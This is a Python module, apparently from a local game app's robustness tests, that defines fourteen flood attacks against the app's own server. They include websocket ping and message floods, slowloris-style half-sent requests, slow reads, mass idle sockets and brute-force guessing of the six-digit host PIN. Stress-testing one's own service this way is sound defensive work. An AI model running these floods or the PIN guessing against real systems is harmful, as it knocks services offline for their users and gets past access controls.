"""The kinds of flood that a stranger in the Wi-Fi can send to a table."""

import asyncio
import contextlib
import random
import socket
from collections.abc import Awaitable, Callable, Coroutine
from typing import Any

HALF_SENT = 1000
LARGE = "/messages.js"
IDLE_SOCKETS = 3000

Attack = Callable[["Target"], Coroutine[Any, Any, None]]


class Target:
    """The table, from the address ``source`` (empty: whatever the system chooses)."""

    def __init__(self, host: str, port: int, source: str) -> None:
        self.host = host
        self.port = port
        self.source = source

    async def open(self, data: bytes = b"") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection on which ``data`` was sent."""
        reader, writer = await asyncio.open_connection(
            self.host, self.port, local_addr=(self.source, 0) if self.source else None
        )
        writer.write(data)
        return reader, writer

    def request(self, method: str, path: str, *lines: str) -> bytes:
        """The head of a request of our own pages."""
        place = f"{self.host}:{self.port}"
        head = "".join(f"{line}\r\n" for line in (f"Host: {place}", f"Origin: http://{place}", *lines))
        return f"{method} {path} HTTP/1.1\r\n{head}\r\n".encode()

    async def board(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """The websocket of a board."""
        upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
        reader, writer = await self.open(self.request("GET", "/ws", *upgrade, "Sec-WebSocket-Key: " + "A" * 22 + "=="))
        await reader.readuntil(b"\r\n\r\n")
        return reader, writer


def frame(opcode: int, payload: bytes) -> bytes:
    """A masked frame of a websocket; the mask is zero."""
    length = len(payload)
    size = bytes((0x80 | length,)) if length < 126 else b"\xfe" + length.to_bytes(2, "big")
    return bytes((0x80 | opcode,)) + size + bytes(4) + payload


async def again(work: Callable[[], Awaitable[None]]) -> None:
    """Do ``work`` for ever, whatever the table does about it."""
    while True:
        with contextlib.suppress(OSError, EOFError, asyncio.TimeoutError):
            await work()
        await asyncio.sleep(0.01)


async def together(count: int, work: Callable[[], Awaitable[None]]) -> None:
    await asyncio.gather(*(again(work) for _ in range(count)))


async def shout(target: Target, data: bytes) -> None:
    """Send ``data`` on the websocket of a board until it is ended."""
    reader, writer = await target.board()
    try:
        while not reader.at_eof():
            writer.write(data)
            await writer.drain()
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(reader.read(65536), 0.001)
    finally:
        writer.transport.abort()


async def ask(target: Target, data: bytes) -> None:
    """Send ``data`` and read an answer, on one connection as often as it lasts."""
    reader, writer = await target.open()
    try:
        while True:
            writer.write(data)
            if not await reader.read(65536):
                return
    finally:
        writer.transport.abort()


async def hold(target: Target, data: bytes) -> None:
    """Send ``data`` and wait for the end."""
    reader, writer = await target.open(data)
    try:
        while await reader.read(65536):
            pass
    finally:
        writer.transport.abort()


async def come_and_go(target: Target) -> None:
    _, writer = await target.board()
    writer.transport.abort()


async def sleep_on_board(target: Target) -> None:
    _, writer = await target.board()
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    await asyncio.sleep(60)


async def read_slowly(target: Target, path: str) -> None:
    """Ask for much, and read a few bytes a second of it with hardly any room for more."""
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    line.setblocking(False)
    if target.source:
        line.bind((target.source, 0))
    loop = asyncio.get_running_loop()
    try:
        await loop.sock_connect(line, (target.host, target.port))
        await loop.sock_sendall(line, target.request("GET", path) * 8)
        while await loop.sock_recv(line, 16):  # noqa: ASYNC110 it reads slowly on purpose
            await asyncio.sleep(0.5)
    finally:
        line.close()


def guesses(target: Target) -> bytes:
    body = b'{"pin":"%06d"}' % random.randrange(10**6)
    return target.request("POST", "/host/login", f"Content-Length: {len(body)}") + body


def half_body(target: Target) -> bytes:
    return target.request("POST", "/join", "Content-Length: 4000") + b"{"


ATTACKS: dict[str, Attack] = {
    "ping frames": lambda target: together(4, lambda: shout(target, frame(9, b"") * 2000)),
    "short messages": lambda target: together(4, lambda: shout(target, frame(1, b'{"t":"ping"}') * 500)),
    "long messages": lambda target: together(4, lambda: shout(target, frame(1, b" " * 2000) * 50)),
    "nested messages": lambda target: together(4, lambda: shout(target, frame(1, b"[" * 2000) * 10)),
    "the code as a picture": lambda target: together(8, lambda: ask(target, target.request("GET", "/qr.svg"))),
    "pages": lambda target: together(100, lambda: ask(target, target.request("GET", "/static/lib/link.js"))),
    "boards that come and go": lambda target: together(20, lambda: come_and_go(target)),
    "boards asleep": lambda target: together(60, lambda: sleep_on_board(target)),
    "slow reads of pages": lambda target: together(HALF_SENT, lambda: read_slowly(target, LARGE)),
    "slow reads of races": lambda target: together(HALF_SENT, lambda: read_slowly(target, "/races.json")),
    "wrong PINs": lambda target: together(20, lambda: ask(target, guesses(target))),
    "half-sent bodies": lambda target: together(HALF_SENT, lambda: hold(target, half_body(target))),
    "half-sent heads": lambda target: together(HALF_SENT, lambda: hold(target, b"GET / HTTP/1.1\r\nHost: ")),
    "idle connections": lambda target: together(IDLE_SOCKETS, lambda: hold(target, b"")),
}
